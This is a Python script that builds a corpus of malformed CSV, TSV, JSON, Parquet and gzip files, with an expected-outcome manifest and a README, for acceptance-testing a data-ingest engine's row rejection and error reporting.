            (b"r5", reject(LINE)),
            (b'r6,"Quoted, with a comma",chat', OK),
            (b"r7,Trailing separators,chat,,,", OK),
            (b"r8,Last valid row,chat", OK),
        ],
        header=b"id,prompt,feature",
    )
    return data, rows_expectation(
        rows, logged_responses=0, prompt_texts={7: "Quoted, with a comma"}
    )


@case(
    "unclosed_quote.csv",
    "the last row opens a quote that is never closed",
    "that row rejected as a whole line, or kept with the quote as text (DuckDB's reader is "
    "lenient at the end of a file); earlier rows kept",
)
def _unclosed_quote() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (b"u1,Fine,chat", OK),
            (b"u2,Also fine,chat", OK),
            (b'u3,"This quote never closes,chat', maybe(LINE)),
        ],
        header=b"id,prompt,feature",
    )
    return data, rows_expectation(rows, logged_responses=0)


@case(
    "multiline.csv",
    "quoted prompts with embedded newlines and doubled quotes, followed by "
    "a row with an empty prompt",
    "multi-line prompts kept intact; following rows keep "
    "their physical line numbers (empty prompt rejected at line 8)",
)
def _multiline() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (b'm1,"First line\nsecond line\nthird line",chat', OK),
            (b"m2,Single line,chat", OK),
            (b'm3,"Quote ""inside""\nand a newline",chat', OK),
            (b"m4,,chat", reject("prompt")),
            (b"m5,Last one,chat", OK),
        ],
        header=b"id,prompt,feature",
    )
    return data, rows_expectation(
        rows,
        logged_responses=0,
        prompt_texts={2: "First line\nsecond line\nthird line", 6: 'Quote "inside"\nand a newline'},
        external_ids={5: "m2", 9: "m5"},
    )


@case(
    "excel_crlf.csv",
    "Excel style: CRLF between rows, bare LF inside quoted cells",
    "line numbers count both; CR not part of any value",
)
def _excel_crlf() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (b'x1,"Line one\nline two",chat', OK),
            (b"x2,Simple,chat", OK),
            (b"x3,,chat", reject("prompt")),
            (b'x4,"Three\nphysical\nlines",chat', OK),
            (b"x5,After,chat", OK),
        ],
        header=b"id,prompt,feature",
        eol=b"\r\n",
    )
    return data, rows_expectation(
        rows,
        logged_responses=0,
        prompt_texts={
            2: "Line one\nline two",
            4: "Simple",
            6: "Three\nphysical\nlines",
            9: "After",
        },
        metadata={9: {"feature": "chat"}},
    )


@case(
    "semicolon.csv",
    "semicolon-delimited CSV (European Excel) with commas and decimal commas inside values",
    "read with ';' as delimiter; the empty prompt rejected",
)
def _semicolon() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (b"1;Hello, how are you?;de-DE;3,50", OK),
            (b"2;Wie geht's, bitte, danke?;de-DE;4,00", OK),
            (b"3;;fr-FR;1,00", reject("prompt")),
            ("4;Où, quand, comment?;fr-FR;2,25".encode(), OK),
        ],
        header=b"id;prompt;locale;price",
    )
    return data, rows_expectation(
        rows,
        logged_responses=0,
        prompt_texts={
            2: "Hello, how are you?",
            3: "Wie geht's, bitte, danke?",
            5: "Où, quand, comment?",
        },
        metadata={2: {"locale": "de-DE", "price": "3,50"}},
        external_ids={5: "4"},
    )


@case(
    "bom.csv",
    "UTF-8 BOM (Excel 'CSV UTF-8') right before the first header name, CRLF rows",
    "nothing rejected; the first column is still called 'prompt'",
)
def _bom_csv() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (b"What is your refund policy?,b1,billing", OK),
            (b"Do you have a phone number?,b2,support", OK),
            (b"Can I change my e-mail address?,b3,account", OK),
        ],
        header=b"prompt,id,feature",
        eol=b"\r\n",
    )
    return b"\xef\xbb\xbf" + data, rows_expectation(
        rows,
        logged_responses=0,
        prompt_texts={2: "What is your refund policy?"},
        external_ids={2: "b1"},
    )


@case(
    "cp1252.csv",
    "Windows-1252 file: smart quotes and the euro sign are not UTF-8",
    "those lines rejected naming the bad byte; ASCII lines kept",
)
def _cp1252() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            ("w1,Plain ASCII prompt,chat".encode("cp1252"), OK),
            ("w2,\u201cSmart quotes\u201d from Word,chat".encode("cp1252"), reject(LINE)),
            ("w3,Another plain one,chat".encode("cp1252"), OK),
            ("w4,Price is 5 \u20ac today,chat".encode("cp1252"), reject(LINE)),
            ("w5,Last plain one,chat".encode("cp1252"), OK),
        ],
        header=b"id,prompt,feature",
    )
    return data, rows_expectation(
        rows, logged_responses=0, reason_contains={3: ["0x93"], 5: ["0x80"]}
    )


@case("missing_prompt.csv", "empty, quoted-empty and whitespace-only prompt cells")
def _missing_prompt_csv() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (b"c1,A valid prompt,chat", OK),
            (b"c2,,chat", reject("prompt")),
            (b'c3,"",chat', reject("prompt")),
            (b'c4,"   ",chat', reject("prompt")),
            (b"c5,Another valid prompt,chat", OK),
        ],
        header=b"id,prompt,feature",
    )
    return data, rows_expectation(rows, logged_responses=0)


@case(
    "csv_messages.csv",
    "a messages column holding JSON text: invalid JSON, unknown role, "
    "object instead of list; one chat ending with the assistant",
    "bad cells rejected "
    "naming the messages field; the trailing assistant turn is the logged answer",
)
def _csv_messages() -> tuple[bytes, dict[str, Any]]:
    def row(cid: str, messages: str) -> bytes:
        return f'{cid},"{messages.replace(chr(34), chr(34) * 2)}",chat'.encode()

    data, rows = physical_lines(
        [
            (row("k1", json.dumps([user("Hello from CSV")])), OK),
            (row("k2", '[{"role": "user", "content": "unterminated]'), reject("messages")),
            (
                row("k3", json.dumps([{"role": "robot", "content": "Beep"}])),
                reject("messages[0].role"),
            ),
            (row("k4", json.dumps(user("An object, not a list"))), reject("messages")),
            (row("k5", json.dumps([user("Q"), assistant("A")])), OK),
        ],
        header=b"id,messages,feature",
    )
    return data, rows_expectation(
        rows,
        logged_responses=1,
        roles={2: ["user"], 6: ["user"]},
        prompt_texts={2: "Hello from CSV", 6: "Q"},
        logged_texts={6: "A"},
    )


@case(
    "exact_duplicates.csv",
    "identical CSV rows repeated",
    "stored once, repeats counted as duplicates",
)
def _exact_duplicates_csv() -> tuple[bytes, dict[str, Any]]:
    a = b"d1,Same question,Same answer"
    b = b"d2,Other question,Other answer"
    data, rows = physical_lines(
        [(a, OK), (b, OK), (a, DUP), (a, DUP), (b"d3,Third question,Third answer", OK)],
        header=b"id,prompt,response",
    )
    return data, rows_expectation(rows, logged_responses=3, weights={2: 3, 3: 1, 6: 1})


@case(
    "nested_metadata.csv",
    "a metadata cell holding JSON nested 2000 levels deep",
    "kept (metadata as text) or rejected naming 'meta' — never a crash",
)
def _nested_metadata_csv() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (b"n1,Normal row before,plain", OK),
            (b"n2,Deep arrays," + _deep_array(2000).encode(), maybe("meta")),
            (b"n3,Normal row after,plain", OK),
        ],
        header=b"id,prompt,meta",
    )
    return data, rows_expectation(rows, logged_responses=0)


@case(
    "truncated.csv.gz",
    "gzip of a CSV cut off in the middle of line 8",
    "lines 2-7 kept, one '(file)' reject at line 8",
)
def _truncated_csv_gz() -> tuple[bytes, dict[str, Any]]:
    lines = [b"id,prompt,feature"] + [
        f"g{i},Question {i}: {words(100 + i, 60)},chat".encode() for i in range(2, 12)
    ]
    verdicts = [OK] * 6 + [reject(FILE)]
    rows = [Row(i, lines[i - 1], v) for i, v in enumerate(verdicts, start=2)]
    return truncated_gzip(lines, cut_line=8), rows_expectation(rows, logged_responses=0)


@case("header_only.csv", "a header line and no rows")
def _header_only_csv() -> tuple[bytes, dict[str, Any]]:
    return b"id,prompt,feature\n", error()


@case("empty.csv", "0 bytes")
def _empty_csv() -> tuple[bytes, dict[str, Any]]:
    return b"", error()


@case("garbage.csv", "4 KiB of random bytes (binary garbage)")
def _garbage_csv() -> tuple[bytes, dict[str, Any]]:
    return garbage(3, 4096), error()


@case(
    "no_prompt_column.csv",
    "well-formed CSV without any prompt or messages column",
    "no row has a prompt: zero usable rows",
)
def _no_prompt_column() -> tuple[bytes, dict[str, Any]]:
    return b"id,locale,tier\nn1,de-DE,free\nn2,en-US,pro\n", error()


@case(
    "tabs.tsv",
    "tab-separated values with commas and semicolons inside prompts, an empty "
    "prompt and a row with an extra tab",
    "read with TAB as delimiter",
)
def _tabs() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (b"t1\tPrompt with, commas; and semicolons\tchat", OK),
            (b"t2\t\tchat", reject("prompt")),
            (b"t3\tToo\tmany\ttabs", reject(LINE)),
            (b"t4\tLast prompt: it is fine\tsearch", OK),
        ],
        header=b"id\tprompt\tfeature",
    )
    return data, rows_expectation(
        rows,
        logged_responses=0,
        prompt_texts={2: "Prompt with, commas; and semicolons", 5: "Last prompt: it is fine"},
        metadata={5: {"feature": "search"}},
    )


@case(
    "utf16le_excel.tsv",
    "UTF-16 LE with BOM, CRLF, tab-separated (Excel 'Unicode Text')",
    "transcoded, all rows kept with their text intact",
)
def _utf16_tsv() -> tuple[bytes, dict[str, Any]]:
    texts = ["Grüße aus München", "日本語で答えてください", "Plain ASCII prompt"]
    entries = [(f"e{i}\t{t}\tde-DE".encode(), OK) for i, t in enumerate(texts, start=1)]
    data, rows = physical_lines(entries, header=b"id\tprompt\tlocale", eol=b"\r\n")
    encoded = b"\xff\xfe" + data.decode("utf-8").encode("utf-16-le")
    return encoded, rows_expectation(
        rows,
        logged_responses=0,
        prompt_texts={i + 1: t for i, t in enumerate(texts, start=1)},
        external_ids={2: "e1"},
    )


@case("header_only.tsv", "a TSV header (CRLF) and no rows")
def _header_only_tsv() -> tuple[bytes, dict[str, Any]]:
    return b"id\tprompt\tfeature\r\n", error()


# Parquet -------------------------------------------------------------------------------------


def _parquet(table: Any) -> bytes:
    import pyarrow.parquet as pq

    sink = io.BytesIO()
    pq.write_table(table, sink, compression="none")
    return sink.getvalue()


@case(
    "prompts.parquet",
    "Parquet with null, empty and whitespace-only prompts and integer id / slice columns",
    "bad rows rejected as 'row N'; ids and slices stored as text",
)
def _parquet_prompts() -> tuple[bytes, dict[str, Any]]:
    import pyarrow as pa

    entries: list[tuple[Any, Verdict]] = [
        ((1, "How do I change my plan?", 3), OK),
        ((2, None, 1), reject("prompt")),
        ((3, "Where is my invoice?", 2), OK),
        ((4, "", 2), reject("prompt")),
        ((5, "   ", 1), reject("prompt")),
        ((6, "Can I pause my subscription?", 3), OK),
    ]
    table = pa.table(
        {
            "id": pa.array([v[0] for v, _ in entries], pa.int64()),
            "prompt": pa.array([v[1] for v, _ in entries], pa.string()),
            "tier": pa.array([v[2] for v, _ in entries], pa.int64()),
        }
    )
    return _parquet(table), rows_expectation(
        indexed(entries),
        logged_responses=0,
        external_ids={1: "1", 6: "6"},
        metadata={1: {"tier": "3"}},
        prompt_texts={3: "Where is my invoice?"},
    )


@case(
    "messages.parquet",
    "Parquet with list<struct<role, content>> messages: unknown role, "
    "empty list, null, no user turn; one chat ending with the assistant",
    "bad rows rejected naming the messages field; trailing assistant turn logged",
)
def _parquet_messages() -> tuple[bytes, dict[str, Any]]:
    import pyarrow as pa

    entries: list[tuple[Any, Verdict]] = [
        ([user("Hello from Parquet")], OK),
        ([{"role": "robot", "content": "Beep"}], reject("messages[0].role")),
        ([], reject("messages")),
        (None, reject("messages")),
        ([user("What is 6 * 7?"), assistant("42")], OK),
        ([system("Be nice.")], reject("messages")),
    ]
    message = pa.struct([("role", pa.string()), ("content", pa.string())])
    table = pa.table(
        {
            "id": pa.array([f"p{i}" for i in range(1, len(entries) + 1)], pa.string()),
            "messages": pa.array([m for m, _ in entries], pa.list_(message)),
            "feature": pa.array(["chat"] * len(entries), pa.string()),
        }
    )
    return _parquet(table), rows_expectation(
        indexed(entries),
        logged_responses=1,
        roles={1: ["user"], 5: ["user"]},
        prompt_texts={1: "Hello from Parquet", 5: "What is 6 * 7?"},
        logged_texts={5: "42"},
        external_ids={5: "p5"},
    )


@case("truncated.parquet", "the first half of a valid Parquet file (no footer)", "corrupt Parquet")
def _parquet_truncated() -> tuple[bytes, dict[str, Any]]:
    import pyarrow as pa

    table = pa.table(
        {
            "id": [f"q{i}" for i in range(50)],
            "prompt": [f"Question {i}: {words(200 + i, 20)}" for i in range(50)],
        }
    )
    whole = _parquet(table)
    return whole[: len(whole) // 2], error()


@case("no_rows.parquet", "valid Parquet with the right columns and zero rows", "zero usable rows")
def _parquet_no_rows() -> tuple[bytes, dict[str, Any]]:
    import pyarrow as pa

    table = pa.table({"id": pa.array([], pa.string()), "prompt": pa.array([], pa.string())})
    return _parquet(table), error()


@case("garbage.parquet", "4 KiB of random bytes with a .parquet extension")
def _parquet_garbage() -> tuple[bytes, dict[str, Any]]:
    return garbage(4, 4096), error()


# gzip of the other formats -------------------------------------------------------------------


@case(
    "array.json.gz",
    "gzip of a JSON array with an element that is not an object and one without a prompt",
    "rows named 'element N' as in a plain JSON array",
)
def _array_json_gz() -> tuple[bytes, dict[str, Any]]:
    entries: list[tuple[Any, Verdict]] = [
        ({"id": "g1", "prompt": "First element"}, OK),
        ({"id": "g2", "prompt": "   "}, reject("prompt")),
        ({"id": "g3", "prompt": "Third element"}, OK),
    ]
    data = json.dumps([value for value, _ in entries], indent=2).encode() + b"\n"
    return gzip_bytes(data), rows_expectation(
        indexed(entries), logged_responses=0, external_ids={3: "g3"}
    )


@case(
    "tabs.tsv.gz",
    "gzip of a TSV with an empty prompt and a row with too few values",
    "read as TSV with physical line numbers",
)
def _tabs_gz() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (b"v1\tFirst, prompt; here\tchat", OK),
            (b"v2\t\tchat", reject("prompt")),
            (b"v3", reject(LINE)),
            (b"v4\tLast prompt\tchat", OK),
        ],
        header=b"id\tprompt\tfeature",
    )
    return gzip_bytes(data), rows_expectation(
        rows, logged_responses=0, prompt_texts={2: "First, prompt; here", 5: "Last prompt"}
    )


@case(
    "prompts.parquet.gz",
    "gzip of a Parquet file with a null and an empty prompt",
    "read as Parquet with row numbers",
)
def _parquet_gz() -> tuple[bytes, dict[str, Any]]:
    import pyarrow as pa

    entries: list[tuple[Any, Verdict]] = [
        (("pz1", "Compressed Parquet question one"), OK),
        (("pz2", None), reject("prompt")),
        (("pz3", ""), reject("prompt")),
        (("pz4", "Compressed Parquet question four"), OK),
    ]
    table = pa.table(
        {
            "id": pa.array([v[0] for v, _ in entries], pa.string()),
            "prompt": pa.array([v[1] for v, _ in entries], pa.string()),
        }
    )
    return gzip_bytes(_parquet(table)), rows_expectation(
        indexed(entries), logged_responses=0, external_ids={4: "pz4"}
    )


# --- output ---------------------------------------------------------------------------------


def build() -> list[Case]:
    """Build every case in memory (files, manifest entries)."""
    for c in CASES:
        c.data, c.expected = c.build()
    return sorted(CASES, key=lambda c: c.name)


def manifest_text(cases: list[Case]) -> str:
    return json.dumps({c.name: c.expected for c in cases}, indent=2, ensure_ascii=False) + "\n"


def _outcome(c: Case) -> str:
    e = c.expected
    if e["outcome"] == "error":
        text = "**error**: IngestError naming the file, with a fix; nothing stored"
    else:
        label = _label(c.name)
        parts = [f"{e['rows_total']} rows: {e['kept']} kept"]
        if e["duplicate"]:
            parts.append(f"{e['duplicate']} duplicate")
        rejected = ", ".join(f"{label} {r} `{f}`" for r, f in e["rejected"].items())
        if rejected:
            parts.append(f"rejected: {rejected}")
        may = ", ".join(f"{label} {r} `{f}`" for r, f in e.get("may_reject", {}).items())
        if may:
            parts.append(f"may be rejected: {may}")
        if e["logged_responses"]:
            parts.append(f"{e['logged_responses']} logged answers")
        text = "; ".join(parts)
    return f"{text} — {c.note}" if c.note else text


def _label(name: str) -> str:
    base = name.removesuffix(".gz")
    if base.endswith(".json"):
        return "element"
    if base.endswith(".parquet"):
        return "row"
    return "line"


def readme_text(cases: list[Case]) -> str:
    head = """# Bad-input corpus

Acceptance corpus for the ingest engine: every file here is broken in one specific way (or is a
valid file in an awkward format). `tests/test_bad_inputs.py` ingests each one into a fresh store
and checks the outcome recorded in `expected.json`: either a whole-file `IngestError` (file name
in the message, a fix-it hint, nothing stored) or exact row counts, and for every rejected row
its number and field, a reason of the form
`<file> line 7, field 'messages[1].role': <problem> — <fix>` (`element` for JSON arrays, `row`
for Parquet; field `(line)` when the whole line is unusable, `(file)` for damage at the end of
the file) and the same row in the quarantine.

Do not edit the files by hand: change `make_corpus.py` and run

    python tests/data/bad/make_corpus.py

which rewrites the files, `expected.json` and this README (`--check` only compares). Row
numbers: JSONL/CSV/TSV → physical line of the row's first line (CSV header = line 1),
JSON array → element index, Parquet → row index, all 1-based. `kept` counts rows that land in
`prompts` (the first of a set of exact duplicates); a field ending in a path, e.g.
`messages[1].content`, may be reported more precisely (`messages[1].content[1]`).

Besides the counts, an entry of `expected.json` may check stored values by row: `prompt_texts`,
`prompt_lengths`, `external_ids`, `metadata` (these keys, values as text), `roles` (of the stored
prompt messages), `weights` (log rows a stored prompt stands for), `logged_texts` (logged
answers); and for rejected rows `reason_contains` (case-insensitive) and `raw_texts` (the row as
written). `formula_export` exports the quarantine with `to_safe_csv` and checks that no cell can
start a formula; `error_contains` checks the text of a whole-file error. `may_reject` rows may be
kept or rejected with the given field (deeply nested JSON: either is fine, a crash is not).

| file | what is wrong | expected outcome |
|---|---|---|
"""
    rows = [f"| `{c.name}` | {c.what} | {_outcome(c)} |" for c in cases]
    return head + "\n".join(rows) + "\n"


def outputs(cases: list[Case]) -> dict[str, bytes]:
    files = {c.name: c.data for c in cases}
    files[MANIFEST] = manifest_text(cases).encode()
    files[README] = readme_text(cases).encode()
    return files


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="compare instead of writing")
    args = parser.parse_args(argv)
    files = outputs(build())
    if args.check:
        stale = [n for n, data in files.items() if (HERE / n).read_bytes() != data]
        extra = sorted(
            p.name
            for p in HERE.iterdir()
            if p.is_file() and p.name not in files and p.name not in NOT_CORPUS
        )
        for name in stale:
            print(f"differs: {name}")
        for name in extra:
            print(f"not made by this script: {name}")
        return 1 if stale or extra else 0
    for name, data in files.items():
        (HERE / name).write_bytes(data)
    print(f"wrote {len(files) - 2} corpus files, {MANIFEST} and {README} to {HERE}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
